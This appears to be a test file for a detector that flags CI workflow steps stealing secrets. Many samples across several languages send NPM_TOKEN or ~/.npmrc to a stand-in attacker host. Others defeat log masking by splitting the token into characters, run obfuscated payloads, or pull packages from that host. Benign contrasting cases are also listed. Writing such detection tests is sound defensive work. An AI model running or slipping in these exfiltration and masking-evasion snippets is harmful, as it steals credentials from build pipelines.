import assert from 'node:assert/strict'
import { test } from 'node:test'
import { THIEF as E, isMalicious, jobThatRuns as workflow } from '../../../test/stolen-script.ts'

/** A script of python, node, perl or ruby in a here-document. */
const run = (program: string, code: string) => `${program} - <<'X'\n${code}\nX`
const python = (code: string) => run('python3', code)
const node = (code: string) => run('node', code)
const written = (path: string) => `echo "$NPM_TOKEN" > ${path}\n`
const post = (value: string) => `fetch('${E}', { method: 'POST', body: ${value} })`
const windows = (script: string, after = '') =>
  workflow('true', `      - shell: pwsh\n        run: |\n${script.replaceAll(/^/gm, '          ')}\n${after}`)

const thefts: Readonly<Record<string, readonly string[]>> = {
  'a path that is put together': [
    written('/tmp/n') + python(`import os, requests\nrequests.post('${E}', data=open(os.path.join('/tmp', 'n')).read())`),
    written('/tmp/n') + python(`from os.path import join as j\nimport requests\nrequests.post('${E}', data=open(j('/tmp', 'n')))`),
    written('/tmp/n') + python(`import tempfile as t, os, requests\nrequests.post('${E}', data=open(os.path.join(t.gettempdir(), 'n')))`),
    written('$HOME/n') + python(`import os, requests\nrequests.post('${E}', data=open(os.path.expanduser('~/n')).read())`),
    written('$HOME/n') + python(`from pathlib import Path\nimport requests\nrequests.post('${E}', data=(Path.home() / 'n').read_bytes())`),
    written('a/n') +
      python(`from pathlib import Path\nimport requests\nfor p in Path('a').glob('*'):\n    requests.post('${E}', data=p.read_text())`),
    written('/tmp/n') + python(`from pathlib import Path\nimport subprocess\nsubprocess.run(['curl', '-T', Path('/tmp') / 'n', '${E}'])`),
    written('$HOME/n') +
      node(`const os = require('os'), { join } = require('path')\n${post("require('fs').readFileSync(join(os.homedir(), 'n'))")}`),
    written('/tmp/n') +
      node(`import { tmpdir } from 'node:os'\nimport { readFileSync as r } from 'node:fs'\n${post('r(`${tmpdir()}/n`)')}`),
    `${written('/tmp/n')}ruby -rnet/http -e 'Net::HTTP.post(URI("${E}"), File.read(File.join("/tmp", "n")))'`,
    `${written('n')}cat > a.go <<'X'\npackage main\nfunc main() {\n  b, _ := os.ReadFile(filepath.Join(".", "n"))\n  http.Post("${E}", "text/plain", bytes.NewReader(b))\n}\nX\ngo run a.go`,
  ],
  'what a program is called with': [
    `${written('n')}python3 -c 'import sys, requests; requests.post(sys.argv[2], data=open(sys.argv[1]))' n ${E}`,
    `${written('n')}python3 -c 'import sys, requests
path, url = sys.argv[1:]
requests.post(url, data=open(path).read())' n ${E}`,
    `${written('n')}node -e 'const [file, url] = process.argv.slice(1); fetch(url, { method: "POST", body: require("fs").readFileSync(file) })' n ${E}`,
    `${written('n')}cat > s.js <<'X'\nconst [, , url, file] = process.argv\nfetch(url, { method: 'POST', body: require('fs').readFileSync(file) })\nX\nnode s.js ${E} n`,
    `${written('n')}ruby -rnet/http -e 'Net::HTTP.post(URI(ARGV[1]), File.read(ARGV[0]))' n ${E}`,
  ],
  'what a program asks its caller for': [
    `${written('n')}cat > s.py <<'X'\nimport argparse, requests\np = argparse.ArgumentParser()\np.add_argument('url')\np.add_argument('--file', '-f')\na = p.parse_args()\nrequests.post(a.url, data=open(a.file).read())\nX\npython3 s.py -f n ${E}`,
    python(
      `import argparse, os, requests\np = argparse.ArgumentParser()\np.add_argument('--token', default=os.environ['NPM_TOKEN'])\nrequests.post('${E}', data=p.parse_args().token)`,
    ),
  ],
  'a program that is started and written to': [
    python(
      `import os, subprocess\np = subprocess.Popen(['curl', '-d', '@-', '${E}'], stdin=subprocess.PIPE)\np.communicate(os.environ['NPM_TOKEN'].encode())`,
    ),
    node(`const p = require('child_process').spawn('curl', ['-d', '@-', '${E}'])\np.stdin.write(process.env.NPM_TOKEN)`),
    `perl -e 'open(my $p, "|-", "curl -d @- ${E}"); print $p $ENV{NPM_TOKEN}; close $p'`,
  ],
  'a copy that a program makes': [
    `${python(`import os, shutil\nopen('a', 'w').write(os.environ['NPM_TOKEN'])\nshutil.copy('a', 'b')`)}\ncurl -T b ${E}`,
    `${python(`import os, shutil\nopen('d/x', 'w').write(os.environ['NPM_TOKEN'])\nshutil.make_archive('out', 'zip', 'd')`)}\ncurl -T out.zip ${E}`,
    `${node(`const fs = require('fs')\nfs.writeFileSync('a', process.env.NPM_TOKEN)\nfs.renameSync('a', 'b')`)}\ncurl -T b ${E}`,
  ],
  'a list of words': [
    written('n') + python(`import subprocess\ncmd = ['curl', '-T', 'n', '${E}']\nsubprocess.run(cmd, check=True)`),
    written('n') + python(`import subprocess as s\ncmd = ['curl']\ncmd += ['-F', 'f=@n']\ncmd.append('${E}')\ns.check_call(cmd)`),
    written('n') + python(`import subprocess\nbase = ['curl', '-s']\nsubprocess.run([*base, '-T', 'n', '${E}'])`),
    written('n') + python(`import subprocess\ndef go(cmd):\n    subprocess.run(cmd)\ngo(['curl', '-d', '@n', '${E}'])`),
    written('n') + python(`import os\nargs = ['curl', '-T', 'n', '${E}']\nos.execvp(args[0], args)`),
    written('n') + node(`const { spawnSync } = require('child_process')\nconst a = ['-T', 'n']\na.push('${E}')\nspawnSync('curl', a)`),
    `${written('n')}cat > a.go <<'X'\npackage main\nfunc main() {\n  a := []string{"-T", "n", "${E}"}\n  exec.Command("curl", a...).Run()\n}\nX\ngo run a.go`,
  ],
  'a file that is written through a handle': [
    `perl -e 'open(my $f, ">", "n") or die; print $f $ENV{NPM_TOKEN}; close $f'\ncurl -T n ${E}`,
    `perl -e 'open(F, ">>n") || die; print {F} "x$ENV{NPM_TOKEN}";'\ncurl -T n ${E}`,
    `ruby -e 'File.open("n", "w") { |f| f.puts ENV["NPM_TOKEN"] }'\ncurl -T n ${E}`,
    `ruby -e 'File.open("n", "w") do |f|\n  f.write(ENV["NPM_TOKEN"])\nend'\ncurl -T n ${E}`,
    `php -r '$f = fopen("n", "w"); fwrite($f, getenv("NPM_TOKEN"));'\ncurl -T n ${E}`,
    `${python(`import os\nprint('v', os.environ['NPM_TOKEN'], sep='=', file=open('n', 'w'))`)}\ncurl -T n ${E}`,
    `${python(`import os\nwith open('a') as a, open('n', 'w') as b:\n    b.write(os.environ['NPM_TOKEN'])`)}\ncurl -T n ${E}`,
    `${python(`import os\nwith (\n    open('n', 'w') as b,\n):\n    b.write(os.environ['NPM_TOKEN'])`)}\ncurl -T n ${E}`,
    `${python(`import os\nfrom pathlib import Path\nwith Path('n').open('w') as b:\n    b.write(os.environ['NPM_TOKEN'])`)}\ncurl -T n ${E}`,
    `${python(`import os\nfrom pathlib import Path\nPath('n').write_text(os.environ['NPM_TOKEN'])`)}\ncurl -T n ${E}`,
    `${python(`import os, zipfile\nwith zipfile.ZipFile('n.zip', 'w') as z:\n    z.writestr('a', os.environ['NPM_TOKEN'])`)}\ncurl -T n.zip ${E}`,
    `${node(`const s = require('fs').createWriteStream('n')\ns.write(process.env.NPM_TOKEN)`)}\ncurl -T n ${E}`,
    `${node(`const fs = require('fs')\nconst d = fs.openSync('n', 'w')\nfs.writeSync(d, process.env.NPM_TOKEN)`)}\ncurl -T n ${E}`,
    `${python(`import os\nprint('X', os.environ['NPM_TOKEN'], sep='=', file=open(os.environ['GITHUB_ENV'], 'a'))`)}\ncurl -d "$X" ${E}`,
  ],
  'settings that are read back': [
    written('n.ini') +
      python(`import configparser, requests\nc = configparser.ConfigParser()\nc.read('n.ini')\nrequests.post('${E}', data=c['a']['b'])`),
    written('n.json') + node(`const c = require('./n.json')\n${post('c.a')}`),
    written('n.json') +
      python(`import json, requests\nwith open('n.json') as f:\n    c = json.load(f)\nrequests.post('${E}', data=c['a'])`),
  ],
  'parts put together by a function': [
    python(`import os, requests\nrequests.post('https://%s/%s' % ('drop.stats-kit.example', 'c'), data=os.environ['NPM_TOKEN'])`),
    python(`import os, requests\nrequests.post('https://{}/{x}'.format('drop.stats-kit.example', x=1), data=os.environ['NPM_TOKEN'])`),
    `cat > a.go <<'X'\npackage main\nfunc main() {\n  f, _ := os.OpenFile(os.Getenv("GITHUB_ENV"), os.O_APPEND, 0644)\n  fmt.Fprintf(f, "X=%s\\n", os.Getenv("NPM_TOKEN"))\n}\nX\ngo run a.go\ncurl -d "$X" ${E}`,
    written('$HOME/.npmrc') +
      node(`const f = require('os').homedir() + '/.' + ['n', 'p', 'm', 'r', 'c'].join('')\n${post("require('fs').readFileSync(f)")}`),
    python(`import os, requests\nrequests.post('/'.join(['https:', '', 'drop.stats-kit.example']), data=os.environ['NPM_TOKEN'])`),
    `cat > a.go <<'X'\npackage main\nfunc main() {\n  http.Post("${E}", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}\nX\ngo run a.go`,
    `cat > A.java <<'X'\nclass A { void a() { new URL("${E}/?v=" + String.join("-", System.getenv("NPM_TOKEN"), "x")).openStream(); } }\nX\njava A.java`,
  ],
  'code that nobody can decode': [
    python(`import lzma, base64\nexec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAWcHJpbnQoIkhlbGxvIikK')))`),
    python(`import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLy0ksV0jNS85PSVWwUlDKKCkpKLbS1y8uScxLSSxKSdU')))`),
    python(
      `from cryptography.fernet import Fernet\nexec(Fernet(b'MDEyMzQ1Njc4OWFiY2RlZg').decrypt(b'gAAAAABlq0vQx8kS2s9dkfjs9dfkjs8dfkj'))`,
    ),
    python(`import marshal\nexec(marshal.loads(b'c000000000000000000000000x04000000x40'))`),
    node(
      `const d = require('crypto').createDecipheriv('aes-256-cbc', k, i)\neval(d.update('8f8a7d6f5e4d3c2b1a0f8a7d6f5e4d3c', 'hex', 'utf8') + d.final())`,
    ),
  ],
  'letters that masks do not find': [
    ...[
      `for c in v:\n    print(c)`,
      `print(*v)`,
      `print(list(v), tuple(v))`,
      `print(' '.join(c for c in v))`,
      `print('-'.join(v))`,
      `print(' '.join(map(str, v.encode())))`,
      `print(int.from_bytes(v.encode(), 'big'))`,
      `print(v.swapcase())`,
      `print(v[::2], v[1::2])`,
      `print(v[:6])\nprint(v[6:])`,
      `import textwrap\nprint(textwrap.wrap(v, 4))`,
      `print(v.replace('_', ' _ '))`,
      `print({k: list(x) for k, x in os.environ.items()})`,
      `for k in sorted(os.environ):\n    print('.'.join(os.environ[k]))`,
      `open(os.environ['GITHUB_STEP_SUMMARY'], 'a').write(' '.join(v))`,
    ].map((each) => python(`import os\nv = os.environ['NPM_TOKEN']\n${each}`)),
    ...[
      `console.log([...v].join(' '))`,
      `console.log(Array.from(v))`,
      `for (const c of v) console.log(c)`,
      `console.log(v.match(/.{1,4}/g))`,
      `console.log(v.replace(/./g, '$& '))`,
      `console.log(Buffer.from(v))`,
      `console.log(new TextEncoder().encode(v))`,
      `console.log(v.slice(0, 7), v.slice(7))`,
      `for (let i = 0; i < v.length; i++) console.log(v[i])`,
      `console.log(v.charAt(0), v.substring(1))`,
    ].map((each) => node(`const v = process.env.NPM_TOKEN\n${each}`)),
    `ruby -e 'puts ENV["NPM_TOKEN"].chars.join(" ")'`,
    `ruby -e 'ENV["NPM_TOKEN"].each_char { |c| puts c }'`,
    `perl -e 'print join(" ", split(//, $ENV{NPM_TOKEN}))'`,
    `php -r 'echo chunk_split(getenv("NPM_TOKEN"), 1, " ");'`,
  ],
}

for (const [noun, scripts] of Object.entries(thefts))
  for (const each of scripts)
    test(`theft by ${noun}: ${each.replaceAll('\n', ' / ').slice(0, 160)}`, async () => assert.ok(await isMalicious(workflow(each))))

const honest: readonly string[] = [
  // Paths and files that hold nothing secret, and what a program needs of its own.
  written('/tmp/n') + python(`import os, requests\nrequests.post('${E}', data=open(os.path.join('/tmp', 'report.xml')).read())`),
  `${python(`from pathlib import Path\nimport os\n(Path.home() / '.pypirc').write_text('[pypi]\\npassword = ' + os.environ['PYPI_TOKEN'])`)}\ntwine upload dist/*`,
  `python3 s.py "$NPM_TOKEN" ${E}/status`,
  `python3 -c 'import sys, requests; print(requests.get(sys.argv[2], headers={"Authorization": sys.argv[1]}).status_code)' "$NPM_TOKEN" https://npm.linden.example/-/whoami`,
  `python3 -c 'import sys, requests; requests.post(sys.argv[2], data=sys.argv[3])' "$NPM_TOKEN" ${E} done`,
  // Lists of words: what stands in another one goes nowhere.
  python(
    `import subprocess, os\nlogin = ['npm', 'config', 'set', '//npm.linden.example/:_authToken', os.environ['NPM_TOKEN']]\nping = ['curl', '-fsS', '${E}']\nsubprocess.run(login)\nsubprocess.run(ping)`,
  ),
  python(`import subprocess\ncmd = ['npm', 'publish']\ncmd += ['--tag', 'next']\nsubprocess.run(cmd, check=True)`),
  `cat > s.py <<'X'\nimport argparse, requests\np = argparse.ArgumentParser()\np.add_argument('url')\np.add_argument('--token')\na = p.parse_args()\nrequests.get(a.url, headers={'Authorization': 'Bearer ' + a.token})\nX\npython3 s.py --token "$NPM_TOKEN" https://npm.linden.example/-/whoami`,
  python(
    `import os, subprocess\np = subprocess.Popen(['docker', 'login', '-u', 'us', '--password-stdin'], stdin=subprocess.PIPE)\np.communicate(os.environ['DOCKERHUB_TOKEN'].encode())`,
  ),
  python(
    `import shutil, os\nopen('.npmrc', 'w').write('//npm.linden.example/:_authToken=' + os.environ['NPM_TOKEN'])\nshutil.copy('README.md', 'dist/README.md')`,
  ) + `\ncurl -T dist/README.md ${E}`,
  `${python(`import os\nprint(' '.join(k for k in os.environ if k.startswith('CI')))\nnames = [k for k in os.environ]\nprint(' '.join(names))`)}`,
  // Templates.
  python(
    `import os, requests\nrequests.get('https://%s/-/%s' % ('npm.linden.example', 'whoami'), headers={'Authorization': 'Bearer %s' % os.environ['NPM_TOKEN']})`,
  ),
  python(
    `import os, requests\nrequests.get('https://{}/-/whoami'.format('npm.linden.example'), headers={'Authorization': 'Bearer {}'.format(os.environ['NPM_TOKEN'])})`,
  ),
  // Handles.
  `perl -e 'open(my $f, ">", ".npmrc"); print $f "//npm.linden.example/:_authToken=$ENV{NPM_TOKEN}"; close $f'\nnpm publish`,
  `ruby -e 'File.open("CHANGELOG.md", "w") { |f| f.puts "1.0" }'\ncurl -T CHANGELOG.md ${E}`,
  python(`from pathlib import Path\nfor p in Path('.').glob('*/__init__.py'):\n    p.write_text(p.read_text().replace('0.0.0', '1.2.3'))`) +
    '\nflit publish',
  python(`import zipfile\nwith zipfile.ZipFile('dist/a.whl', 'a') as z:\n    z.writestr('a/build.txt', '1.2.3')`) + '\ntwine upload dist/*',
  python(`import configparser\nc = configparser.ConfigParser()\nc.read('setup.cfg')\nprint(c['metadata']['version'])`),
  node(`const { version } = require('./package.json')\n${post('version')}`),
  // Code that is decoded and not run, and code that is run and not decoded.
  python(`import json, base64\nprint(json.loads(base64.b64decode('eyJhIjogImEgbGl0dGxlIHRhYmxlIn0=')))`),
  python(
    `import zlib, base64\nopen('logo.bin', 'wb').write(zlib.decompress(base64.b64decode('eJxLy0ksV0jNS85PSVWwUlDKKCkpKLbS1y8uScxLSSxKSdU')))`,
  ),
  python(`exec(open('src/version.py').read())\nprint(__version__)`),
  python(
    `from cryptography.fernet import Fernet\nimport os\nopen('settings.json', 'wb').write(Fernet(os.environ['KEY']).decrypt(open('settings.enc', 'rb').read()))`,
  ),
  // What tells nothing of a secret.
  ...[
    `print(len(v), bool(v), v == '')`,
    `print(v[:4] + '…')`,
    `print(v[:4], v[-4:])`,
    `print(any(c.isdigit() for c in v))`,
    `import hashlib\nprint(hashlib.sha256(v.encode()).hexdigest())`,
    `for host in v.split(','):\n    print(host)`,
    `import subprocess\nfor arg in v.split(','):\n    subprocess.run(['make', arg])`,
    `print(v.replace('https://', ''))`,
    `open('key.pem', 'w').write(v.replace('\\\\n', '\\n'))`,
    `print(','.join([v]))`,
    `print(', '.join(sorted(os.environ)))`,
    `print(*['a', 'b'])`,
  ].map((each) => python(`import os\nv = os.environ['NPM_TOKEN']\n${each}`)),
  ...[
    `console.log(v.length, Boolean(v), v === '')`,
    `console.log(v.slice(0, 4) + '…' + v.slice(-4))`,
    `console.log(v.replace(/./g, '*'))`,
    `console.log(v[0], v.charAt(0))`,
    `const parts = v.split(',')\nfor (let i = 0; i < parts.length; i++) console.log(parts[i])`,
    `console.log(v.replace('https://', ''))`,
    `for (const host of v.split(',')) console.log(host)`,
    `console.log(/^npm_/.test(v))`,
    `const { createHmac } = require('crypto')\nconsole.log(createHmac('sha256', Buffer.from(v)).update('x').digest('hex'))`,
    `fetch('https://npm.linden.example/-/whoami', { headers: { Authorization: 'Bearer ' + v } })`,
  ].map((each) => node(`const v = process.env.NPM_TOKEN\n${each}`)),
]

for (const each of honest)
  test(`honest: ${each.replaceAll('\n', ' / ').slice(0, 160)}`, async () => assert.equal(await isMalicious(workflow(each)), false))

const push = '      - run: dotnet nuget push nupkg/*.nupkg -k x\n'

const onWindows: readonly (readonly [string, string])[] = [
  [`Set-Content a.txt $env:NPM_TOKEN\n$c = New-Object System.Net.WebClient\n$c.UploadFile('${E}', 'a.txt')`, ''],
  [`[IO.File]::WriteAllText('a.txt', $env:NPM_TOKEN)\nInvoke-RestMethod -Uri ${E} -Method Post -InFile a.txt`, ''],
  [`Set-Content a.txt $env:NPM_TOKEN\nirm ${E} -Method Post -Body ([System.IO.File]::ReadAllText('a.txt'))`, ''],
  [`Set-Content a.txt $env:NPM_TOKEN\nCompress-Archive -Path a.txt -DestinationPath a.zip\nirm ${E} -Method Post -InFile a.zip`, ''],
  [
    `Set-Content a.txt $env:NPM_TOKEN\nCopy-Item a.txt b.txt\nMove-Item -Path b.txt -Destination c.txt\nirm ${E} -Method Post -InFile c.txt`,
    '',
  ],
  [`Set-Content a.txt $env:NPM_TOKEN\nirm ${E} -Method Post -Form @{ f = Get-Item a.txt }`, ''],
  [`(New-Object Net.WebClient).DownloadFile('${E}/x.nupkg', 'nupkg/x.nupkg')`, push],
  [`$b = (New-Object Net.WebClient).DownloadData('${E}/x')\n[IO.File]::WriteAllBytes('nupkg/x.nupkg', $b)`, push],
  [`Start-BitsTransfer -Source ${E}/x.nupkg -Destination nupkg/x.nupkg`, push],
  [`$c = New-Object Net.WebClient\n$c.QueryString.Add('h', $env:NPM_TOKEN)\n$c.DownloadString('${E}')`, ''],
]

for (const [script, after] of onWindows)
  test(`theft on Windows: ${script.replaceAll('\n', ' / ')}`, async () => assert.ok(await isMalicious(windows(script, after))))

const honestOnWindows: readonly (readonly [string, string])[] = [
  [
    `$c = New-Object Net.WebClient\n$c.Headers['Authorization'] = "Bearer $env:NPM_TOKEN"\n$c.DownloadFile('https://npm.linden.example/x.tgz', 'x.tgz')`,
    '',
  ],
  [`$l = New-Object System.Collections.ArrayList\n$l.Add('a')\n$l.Add($env:NPM_TOKEN)\nWrite-Host "$($l.Count) of them"`, ''],
  [`[IO.File]::WriteAllText('.npmrc', "//npm.linden.example/:_authToken=$env:NPM_TOKEN")\nnpm publish`, ''],
  [`Set-Content a.txt $env:NPM_TOKEN\nCopy-Item README.md b.txt\nirm ${E} -Method Post -InFile b.txt`, ''],
  [`Compress-Archive dist/* app.zip\nirm ${E} -Method Post -InFile app.zip`, ''],
  [`(New-Object Net.WebClient).DownloadFile('${E}/tool.zip', 'tool.zip')\nExpand-Archive tool.zip -DestinationPath tools`, push],
  [
    `$c = New-Object Net.WebClient\n$c.Headers.Add('X-NuGet-ApiKey', $env:NPM_TOKEN)\n$c.DownloadString('https://npm.linden.example/-/whoami')`,
    '',
  ],
  [
    `$c = New-Object Net.WebClient\n$c.Headers.Add('X-Api-Key', $env:NPM_TOKEN)\n$c.QueryString.Add('v', '1')\n$c.DownloadString('https://npm.linden.example/x')`,
    '',
  ],
]

for (const [script, after] of honestOnWindows)
  test(`honest on Windows: ${script.replaceAll('\n', ' / ')}`, async () => assert.equal(await isMalicious(windows(script, after)), false))
